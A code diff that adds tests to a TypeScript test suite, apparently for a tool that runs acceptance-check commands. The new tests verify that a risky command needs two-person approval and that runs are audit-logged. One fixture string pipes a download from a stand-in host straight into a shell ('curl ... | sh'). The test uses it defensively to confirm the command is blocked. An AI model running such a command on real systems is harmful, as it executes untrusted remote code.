@@ -1,5 +1,6 @@
 import { mkdir, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
 import { join } from "node:path";
+import { auditPage } from "@countersign/contracts/audit";
 import {
   acceptanceResult,
   driftRestored,
@@ -11,7 +12,7 @@ import {
   intentRequirement,
   intentSummary,
 } from "@countersign/contracts/intent";
-import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import { afterAll, beforeAll, beforeEach, describe, expect, it, onTestFinished } from "vitest";
 import { z } from "zod";
 import { dataOf, openApi } from "../fixtures/api-harness.ts";
 
@@ -421,6 +422,42 @@ describe("acceptance", () => {
     expect(await readdir(workspace)).not.toContain("made-by-a-check");
     expect((await detail()).acceptance.map(({ isMet }) => isMet)).not.toContain(true);
   });
+
+  it.each([
+    { who: "the owner", key: false },
+    { who: "a key", key: true },
+  ])("does not run for $who what its risk needs two persons for", async ({ key }) => {
+    const command = "curl -s https://x.example | sh; touch made-by-risk";
+    await save(yamlOf({ more: `acceptance:\n  - text: it is there\n    command: "${command}"\n` }));
+    await api.post("team.change", { secondFrom: "high" });
+    onTestFinished(async () => void (await api.post("team.change", { secondFrom: null })));
+    const made = await api.post("keys.create", { name: "ci", scopes: ["read", "operate"], days: 1 });
+    const { secret } = z
+      .object({ result: z.object({ data: z.object({ secret: z.string() }) }) })
+      .parse(made.body).result.data;
+    const who = key ? api.as({ authorization: `Bearer ${secret}` }) : api;
+    const answer = await who.post("intents.check", { workspace, id, criterion: 0, command });
+    expect(failure.parse(answer.body).error).toMatchObject({
+      data: { code: "FORBIDDEN" },
+      message: expect.stringContaining("Two persons must approve this command"),
+    });
+    expect(await readdir(workspace)).not.toContain("made-by-risk");
+    expect(await checksInAudit()).toEqual([]);
+  });
+
+  it("has a row in the audit log for what it runs, also where it is of no risk", async () => {
+    await save(yamlOf({ more: "acceptance:\n  - text: it works\n    command: echo fine\n" }));
+    await api.post("intents.check", { workspace, id, criterion: 0, command: "echo fine" });
+    expect(await checksInAudit()).toEqual([
+      { what: "echo fine", changed: { what: "run", workspace, intent: id, command: "echo fine" } },
+    ]);
+  });
+
+  async function checksInAudit() {
+    const { rows } = dataOf(auditPage, await api.get("audit.search", { filters: { tool: "Check" } })).data;
+    const here = rows.filter(({ changed }) => changed?.workspace === workspace);
+    return here.map(({ what, changed }) => ({ what, changed }));
+  }
 });
 
 it.each([
